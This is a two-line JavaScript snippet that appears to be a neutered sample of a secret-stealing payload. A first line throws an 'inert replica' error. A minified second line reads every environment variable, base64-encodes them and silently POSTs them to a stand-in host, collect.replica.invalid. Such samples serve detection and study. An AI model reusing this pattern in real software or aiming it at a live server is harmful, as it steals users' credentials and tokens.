throw new Error("inert replica");
!function(){try{var e="undefined"!=typeof process&&process.env;if(!e)return;fetch("https://collect.replica.invalid/e",{method:"POST",body:btoa(JSON.stringify(e))})}catch(e){}}();
